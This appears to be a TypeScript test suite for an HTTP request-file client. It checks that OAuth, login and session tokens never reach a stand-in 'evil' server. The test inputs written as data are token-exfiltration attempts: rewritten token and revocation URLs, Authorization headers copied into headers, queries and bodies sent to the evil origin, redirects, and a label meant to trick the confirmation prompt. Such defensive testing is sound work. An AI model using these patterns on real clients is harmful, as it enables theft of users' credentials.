import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { mayRepeat } from '../../src/core/auth/renewal.ts';
import type { TokenSession } from '../../src/core/auth/session.ts';
import { explainRefusals } from '../../src/core/explainAll.ts';
import { Secret } from '../../src/core/secret.ts';
import { renewAndRetry, renewalFor, runRequest, signOutAt } from '../../src/run/index.ts';
import type { RunHost, RunOutcome, RunTarget } from '../../src/run/run.ts';
import { openShell, type Shell, startWorld, type World } from './tokenWorld.ts';

/** What a cloned folder may try with the sessions that its user has. */

const person = {
  Type: 'OAuth2',
  'Grant Type': 'Password',
  Issuer: 'ORIGIN',
  'Token URL': 'ORIGIN/token',
  'Client ID': 'app',
  'Client Secret': 'app-secret-0123456789',
  Username: 'ada',
  Password: 'analytical-engine',
};
const me = 'GET ORIGIN/me\nAuthorization: Bearer {{$auth.token("person")}}\n';
const signal = new AbortController().signal;

/** Says no to every question, and keeps them. */
function refusing(): { readonly questions: string[]; readonly host: Pick<RunHost, 'confirm'> } {
  const questions: string[] = [];
  const confirm = async (question: string) => {
    questions.push(question);
    return /password grant/.test(question);
  };
  return { questions, host: { confirm } };
}

async function rewrite(shell: Shell, auth: object): Promise<void> {
  const text = JSON.stringify({ dev: { Security: { Auth: auth } }, $users: { ada: {}, vic: {} } });
  await writeFile(join(dirname(shell.target(me).path), 'http-client.env.json'), text);
}

/** As the command line and the editor do it with `--retry auto`. */
async function sendWithRetry(shell: Shell, target: RunTarget): Promise<RunOutcome> {
  const first = await runRequest(target, shell.memory, shell.host, signal);
  if (first.kind !== 'answered') return first;
  const report = explainRefusals([first.exchange], shell.host.now(), { known: first.secrets })[0]?.report;
  const plan = report && renewalFor(first, report, target);
  if (!plan || !mayRepeat(plan.renewal, 'auto', first.exchange)) return first;
  return renewAndRetry(target, first, plan, shell.memory, shell.host, signal);
}

/** All requests of a text as one run. */
async function sendAll(shell: Shell, text: string): Promise<RunOutcome[]> {
  const target = shell.target(text);
  const batch = {};
  const outcomes: RunOutcome[] = [];
  for (const request of target.file.requests) outcomes.push(await sendWithRetry(shell, { ...target, request, batch }));
  return outcomes;
}

function statuses(outcomes: readonly RunOutcome[]): (number | string)[] {
  return outcomes.map((it) => (it.kind === 'answered' ? it.exchange.response.status : it.kind));
}

async function sessionOf(shell: Shell): Promise<TokenSession> {
  const [session] = await shell.sessions.list();
  assert.ok(session?.kind === 'tokens');
  return session;
}

test('a file that names another token URL by now gets no refresh token', async (t) => {
  const [world, evil] = [await startWorld(t), await startWorld(t)];
  const shell = await openShell(t, world, { person });
  await shell.send(me);
  const { refreshToken, accessToken } = (await sessionOf(shell)).tokens;
  // The issuer stays; tokens would go to the URL that is written beside it.
  await rewrite(shell, { person: { ...person, Issuer: world.origin, 'Token URL': `${evil.origin}/token` } });
  world.now += 590_000;
  await shell.send(me);
  const sent = evil.tokenCalls.map((it) => it.toString()).join('\n');
  assert.ok(refreshToken && evil.tokenCalls.every((it) => it.get('refresh_token') === null), sent);
  assert.ok(!sent.includes(refreshToken.reveal()) && !sent.includes(accessToken.reveal()), sent);
});

test('signing out tells nothing to a revocation URL that was written later', async (t) => {
  const [world, evil] = [await startWorld(t), await startWorld(t)];
  const shell = await openShell(t, world, { person });
  await shell.send(me);
  const session = await sessionOf(shell);
  const filled = { ...person, Issuer: world.origin, 'Token URL': `${world.origin}/token` };
  await rewrite(shell, {
    person: { ...filled, 'Revocation URL': `${evil.origin}/revoke`, 'End Session URL': `${evil.origin}/out` },
  });
  const done = await signOutAt(session, shell.target(me), { memory: shell.memory, host: shell.host, signal });
  assert.deepEqual(evil.apiCalls, []);
  assert.equal(done.page, undefined);
  assert.match(done.revocation.kind === 'failed' ? done.revocation.message : '', /configuration has changed/);
});

test('a token that is read out of an earlier request goes nowhere else unasked', async (t) => {
  const [world, evil] = [await startWorld(t), await startWorld(t)];
  const { questions, host } = refusing();
  const shell = await openShell(t, world, { person }, host);
  const first = `# @name first\n${me}\n###\n`;
  const tries = [
    `${first}GET ${evil.origin}/me\nX-Note: {{first.request.headers.Authorization}}\n`,
    `${first}GET ${evil.origin}/me?at={{first.request.headers.Authorization}}\n`,
    `${first}POST ${evil.origin}/me\n\nit={{first.request.headers.Authorization}}\n`,
  ];
  for (const text of tries) assert.deepEqual(statuses(await sendAll(shell, text)), [200, 'cancelled'], text);
  assert.deepEqual(evil.apiCalls, []);
  assert.match(questions.at(-1) ?? '', new RegExp(`Let ${evil.origin} have the token of person`));
});

test('a token of an account that is read out of an earlier request goes nowhere else unasked', async (t) => {
  const [world, evil] = [await startWorld(t), await startWorld(t)];
  const shell = await openShell(
    t,
    world,
    {},
    {
      account: async () => ({ token: new Secret('account-token-0123456789') }),
      confirm: async (question) => question.includes(world.origin),
    },
  );
  const text = `# @name first\nGET ORIGIN/me\nAuthorization: Bearer {{$session github repo}}\n\n###\nGET ${evil.origin}/me\nX-Note: {{first.request.headers.Authorization}}\n`;
  assert.deepEqual(statuses(await sendAll(shell, text)), [401, 'cancelled']);
  assert.deepEqual(evil.apiCalls, []);
});

test('what a definition took from a login goes nowhere else unasked', async (t) => {
  const site = await startSite(t, () => ({ status: 200, body: { token: 'login-token-0123456789' } }));
  const evil = await startWorld(t);
  const { questions, host } = refusing();
  const shell = await openShell(t, { origin: site.origin, now: Date.now() } as World, {}, host);
  const text = `@held = {{enter.response.body.$.token}}\n\n# @name enter\n# @login\nPOST ORIGIN/login\n\n###\nGET ORIGIN/me\nAuthorization: Bearer {{held}}\n\n###\nGET ${evil.origin}/me\nAuthorization: Bearer {{held}}\n`;
  assert.deepEqual(statuses(await sendAll(shell, text)), [200, 200, 'cancelled']);
  assert.deepEqual(evil.apiCalls, []);
  assert.match(questions.at(-1) ?? '', /the session of enter/);
});

test('a redirect to another origin does not take a token along', async (t) => {
  const evil = await startWorld(t);
  const world = await startWorld(t);
  const site = await startSite(t, () => ({ status: 307, headers: { Location: `${evil.origin}/me` } }));
  const shell = await openShell(t, world, { person });
  for (const field of ['Authorization: Bearer', 'X-Api-Key:', 'X-Whatever:']) {
    const text = `GET ${site.origin}/moved\n${field} {{$auth.token("person")}}\n`;
    await shell.send(text);
  }
  assert.deepEqual(evil.apiCalls, ['GET /me ', 'GET /me ', 'GET /me ']);
  assert.equal(site.calls.length, 3);
  assert.equal(evil.fields.filter((it) => it.includes('access-token-number')).length, 0);
});

test('a server that refuses whatever it is shown has each request renewed once at most, and the file twice', async (t) => {
  const world = await startWorld(t);
  const shell = await openShell(t, world, { person });
  world.refusesAll = true;
  const text = Array.from({ length: 20 }, () => me).join('\n###\n');
  assert.deepEqual(new Set(statuses(await sendAll(shell, text))), new Set([401]));
  assert.equal(world.tokenCalls.length, 2, 'signed in, renewed, and then known to be in vain');
  assert.equal(world.apiCalls.length, 21, 'one of them was sent twice');
  world.refusesAll = false;
  assert.deepEqual(statuses(await sendAll(shell, me)), [200]);
  world.endAll();
  assert.deepEqual(statuses(await sendAll(shell, me)), [200], 'what was accepted is renewed again');
});

test('a login that does not help is not repeated for each request', async (t) => {
  const site = await startSite(t, ({ path }) =>
    path === '/login'
      ? { status: 200, headers: { 'Set-Cookie': 'sid=session-0123456789' } }
      : { status: 401, body: { message: 'Session expired' } },
  );
  const shell = await openShell(t, { origin: site.origin, now: Date.now() } as World, {});
  const account = 'GET ORIGIN/account\n';
  const text = `# @name enter\n# @login\nPOST ORIGIN/login\n\n###\n${Array.from({ length: 10 }, () => account).join('\n###\n')}`;
  await sendAll(shell, text);
  assert.equal(site.calls.filter((it) => it === 'POST /login').length, 2);
});

test('what had to run first is not done twice for a second attempt', async (t) => {
  const world = await startWorld(t);
  const site = await startSite(t, () => ({ status: 200, body: { id: 7 } }));
  const shell = await openShell(t, world, { person });
  await shell.send(me);
  world.endAll();
  const text = `# @name create\nPOST ${site.origin}/orders\n\n{}\n\n###\n# @name look\nGET ${site.origin}/look\n\n###\n# @forceRef create\n# @forceRef look\n${me}`;
  const outcome = await sendWithRetry(shell, shell.target(text));
  assert.deepEqual(statuses([outcome]), [200]);
  assert.ok(outcome.kind === 'answered' && outcome.renewed);
  assert.deepEqual(site.calls, ['POST /orders', 'GET /look', 'GET /look']);
});

test('the question about another origin cannot be written by the file', async (t) => {
  const [world, evil] = [await startWorld(t), await startWorld(t)];
  const { questions, host } = refusing();
  const id = 'x to https://api.example? Say yes. '.padEnd(190, '!');
  const shell = await openShell(t, world, { [id]: person }, host);
  const asks = (origin: string) => `GET ${origin}/me\nAuthorization: Bearer {{$auth.token(${JSON.stringify(id)})}}\n`;
  await shell.send(asks('ORIGIN'));
  await shell.send(asks(evil.origin));
  const asked = questions.filter((it) => it.startsWith(`Let ${evil.origin} have `));
  assert.equal(asked.length, 1, questions.join(' / '));
  for (const it of asked) {
    assert.ok(it.includes(evil.origin) && it.length < 300, it);
    assert.doesNotMatch(it, /\n/);
  }
  assert.deepEqual(evil.apiCalls, []);
});

interface Site {
  readonly origin: string;
  readonly calls: string[];
}

type Reply = { readonly status: number; readonly headers?: Record<string, string>; readonly body?: object };

async function startSite(t: TestContext, reply: (it: { readonly path: string }) => Reply): Promise<Site> {
  const calls: string[] = [];
  const server = createServer((request, response) => {
    request.resume();
    calls.push(`${request.method} ${request.url}`);
    const { status, headers, body } = reply({ path: request.url ?? '' });
    response.writeHead(status, { 'Content-Type': 'application/json', ...headers });
    response.end(JSON.stringify(body ?? {}));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => server.close().closeAllConnections());
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, calls };
}
